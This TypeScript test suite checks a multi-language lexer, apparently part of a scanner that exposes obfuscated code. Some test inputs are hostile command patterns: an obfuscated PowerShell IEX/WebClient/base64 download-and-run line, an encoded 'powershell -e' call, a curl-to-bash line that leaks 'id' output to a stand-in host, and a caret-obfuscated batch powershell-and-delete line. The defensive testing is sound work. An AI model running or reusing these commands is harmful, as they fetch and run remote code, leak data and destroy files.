import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import type { FileKind } from "../model.ts";
import { lex } from "./lex.ts";

/** Kind and value of each token, e.g. `name:eval`. */
function spell(kind: FileKind, text: string): string[] {
  const tokens = lex(kind, text);
  return Array.from({ length: tokens.length }, (_, at) => `${tokens.kind(at)}:${tokens.value(at)}`);
}

function pick(kind: FileKind, text: string, wanted: string): string[] {
  return spell(kind, text)
    .filter((token) => token.startsWith(`${wanted}:`))
    .map((token) => token.slice(wanted.length + 1));
}

test("Python lines, blocks and joined lines become newline, indent and dedent", () => {
  assert.deepEqual(spell("python", "if a:\n\tb(\n 1)\n\n  # c\nc \\\n + 2\n"), [
    "name:if",
    "name:a",
    "operator::",
    "newline:\n",
    "indent:",
    "name:b",
    "operator:(",
    "number:1",
    "operator:)",
    "newline:\n",
    "dedent:",
    "name:c",
    "operator:+",
    "number:2",
    "newline:\n",
  ]);
});

test("a Python comment ends at a lone carriage return, as CPython reads it", () => {
  assert.deepEqual(pick("python", "# hidden\rexec(x)", "name"), ["exec", "x"]);
});

test("Python strings give their value whatever their prefix, quotes and escapes", () => {
  const source = String.raw`'a\x62\143\u0064\U00000065' rb"\x" b'\xff\u0041' u'''f"'g''' R"\n" "\N{LATIN SMALL LETTER E}" 'a\
b'`;
  assert.deepEqual(pick("python", source, "string"), ["abcde", "\\x", "\xff\\u0041", "f\"'g", "\\n", "e", "ab"]);
});

test("Python identifiers are compared in NFKC", () => {
  assert.deepEqual(pick("python", "𝐞𝐱𝐞𝐜(ｅval)", "name"), ["exec", "eval"]);
});

test("code in the holes of f-strings is visible, nested literals and formats included", () => {
  assert.deepEqual(spell("python", `f'a{{{ev["k"]!r:>{w}}}}z{exec(f"{y}")}'`), [
    "template:a{",
    "name:ev",
    "operator:[",
    "string:k",
    "operator:]",
    "operator:!",
    "name:r",
    "template::>",
    "name:w",
    "template:",
    "template:}z",
    "name:exec",
    "operator:(",
    "template:",
    "name:y",
    "template:",
    "operator:)",
    "template:",
    "newline:",
  ]);
  assert.deepEqual(pick("python", 'f"plain {{}}" rf"\\d{x}"', "string"), ["plain {}"]);
  assert.deepEqual(pick("python", 'f"{x!=y}{(lambda: z)()}" t"{a:%H:%M}"', "name"), ["x", "y", "lambda", "z", "a"]);
});

test("a Python literal without end is one error token and the next line is read", () => {
  assert.deepEqual(spell("python", "a = 'x\nb"), [
    "name:a",
    "operator:=",
    "error:'x",
    "newline:\n",
    "name:b",
    "newline:",
  ]);
  assert.deepEqual(pick("python", 'f"{x:\nb', "name"), ["x", "b"]);
});

test("Python numbers and operators are read whole", () => {
  assert.deepEqual(pick("python", "1_000 .5 0xFf 1.e-3j 1if x else 0b1", "number"), [
    "1_000",
    ".5",
    "0xFf",
    "1.e-3j",
    "1",
    "0b1",
  ]);
  assert.deepEqual(pick("python", "a**=b//c->d:=e...f!=g<<=h", "operator"), [
    "**=",
    "//",
    "->",
    ":=",
    "...",
    "!=",
    "<<=",
  ]);
});

test("a slash in JavaScript is a regular expression only where an operand begins", () => {
  const source =
    "a / b / c; if (x) /'/.test(y); z = () => {}\n/`/g; (q) / 2; return /[/]/; i++ / 2; a.return / 3; }/`/;";
  assert.deepEqual(pick("javascript", source, "regex"), ["/'/", "/`/g", "/[/]/", "/`/"]);
});

test("JavaScript templates show the code in their holes", () => {
  const hole = "$";
  assert.deepEqual(spell("javascript", `\`a${hole}{b+\`c${hole}{{d:1}.d}\`}e\` + \`f\``), [
    "template:a",
    "name:b",
    "operator:+",
    "template:c",
    "operator:{",
    "name:d",
    "operator::",
    "number:1",
    "operator:}",
    "operator:.",
    "name:d",
    "template:",
    "template:e",
    "operator:+",
    "string:f",
  ]);
});

test("JavaScript escapes in strings and names are resolved", () => {
  assert.deepEqual(
    pick(
      "javascript",
      String.raw`\u0065v\u{61}l("\x41\u{1F600}\101\
b")`,
      "name",
    ),
    ["eval"],
  );
  assert.deepEqual(
    pick(
      "javascript",
      String.raw`"\x41\u{42}\103\
d\q"`,
      "string",
    ),
    ["ABCdq"],
  );
});

test("HTML-like comments hide code in scripts only, and keep it visible as an error token", () => {
  assert.deepEqual(pick("javascript", "a <!-- ` it's\nb\n --> c", "name"), ["a", "b"]);
  assert.deepEqual(pick("javascript", "a <!-- c\nb", "error"), ["<!-- c"]);
  assert.deepEqual(pick("javascript", "a <!--c\nb\nimport 'x'", "name"), ["a", "c", "b", "import"]);
});

test("the first line of a script and markup do not confuse the JavaScript lexer", () => {
  assert.deepEqual(pick("javascript", "#!/usr/bin/env node '\na", "name"), ["a"]);
  assert.deepEqual(pick("javascript", "x = <b>it</b>;\ny('z')", "string"), ["z"]);
  assert.deepEqual(pick("javascript", "class A { #p = 1_0n; m() { return this.#p } }", "name").slice(-2), [
    "this",
    "#p",
  ]);
});

test("PowerShell names lose their backticks, strings keep their text, holes show their code", () => {
  const source =
    "I`EX \"a`n$(New-Object Net.WebClient)\" -enc 'it''s' @'\nx'y\n'@ [Convert]::FromBase64String($env:A) “q”";
  assert.deepEqual(pick("powershell", source, "name"), [
    "IEX",
    "New-Object",
    "Net.WebClient",
    "-enc",
    "Convert",
    "FromBase64String",
    "$env:A",
  ]);
  assert.deepEqual(pick("powershell", source, "string"), ["it's", "x'y", "q"]);
  assert.deepEqual(pick("powershell", source, "template"), ["a\n", ""]);
  assert.deepEqual(pick("powershell", 'a <# b #> # c\n@"\n$(d)\n"@; 1..3', "name"), ["a", "d"]);
});

test("unquoted base64 stays one word in PowerShell", () => {
  assert.deepEqual(pick("powershell", "powershell -e SQBFAFgAIAAoAA+/A==", "name"), [
    "powershell",
    "-e",
    "SQBFAFgAIAAoAA+/A==",
  ]);
});

test("quotes and escapes inside words of shell and batch are taken off", () => {
  assert.deepEqual(pick("shell", 'c\'\'ur\\l -s "http://h/$(id)" | b"as"h # x\ncat <<E\nit\'s\nE\nls', "name"), [
    "curl",
    "-s",
    "id",
    "bash",
    "cat",
    "E",
    "ls",
  ]);
  assert.deepEqual(pick("batch", 'rem x\n@pow^ers"he"ll -c "a & b" & del %T%\n:: y', "name"), [
    "powershell",
    "-c",
    "a & b",
    "del",
    "%T%",
  ]);
});

test("kinds without a lexer have no tokens", () => {
  assert.equal(lex("json", "{}").length, 0);
});

const KINDS: readonly FileKind[] = ["python", "javascript", "typescript", "powershell", "shell", "batch"];
const PIECES = [
  ..."'\"`(){}[]$/\\<>!-=:;#*+@%&|^~,.? \t\n\r\0aZ_0x9éα\u2028\ud800",
  ...['f"', "f'''", "${", "$(", "@'", '"@', "//", "/*", "<!--", "-->", "<#", "#>", "<<E", "rem ", "if ", "\\u{", "0x"],
];

test("no text makes a lexer throw, and tokens are in order and never overlap", () => {
  const text = fc.array(fc.constantFrom(...PIECES), { maxLength: 80 }).map((pieces) => pieces.join(""));
  fc.assert(
    fc.property(fc.constantFrom(...KINDS), text, (kind, source) => {
      const tokens = lex(kind, source);
      let last = 0;
      for (let at = 0; at < tokens.length; at++) {
        assert.ok(tokens.start(at) >= last && tokens.end(at) >= tokens.start(at), `${kind} token ${at}`);
        last = tokens.end(at);
        tokens.value(at);
      }
      assert.ok(last <= source.length);
    }),
    { numRuns: 2000 },
  );
});

test("deep nesting and long lines cost linear time in every language", () => {
  const size = 60_000;
  for (const piece of [
    "(",
    "[",
    "{",
    "f'{",
    "f'{x:{",
    "`${",
    '"$(',
    '@"\n$(',
    "/[",
    "=/[a",
    "</a",
    "<!--",
    "'",
    "(a",
    "\\\n",
    "/*",
    "x<<E\n",
  ]) {
    for (const kind of KINDS) {
      const started = performance.now();
      lex(kind, piece.repeat(size));
      assert.ok(performance.now() - started < 8000, `${kind} ${JSON.stringify(piece)}`);
    }
  }
});
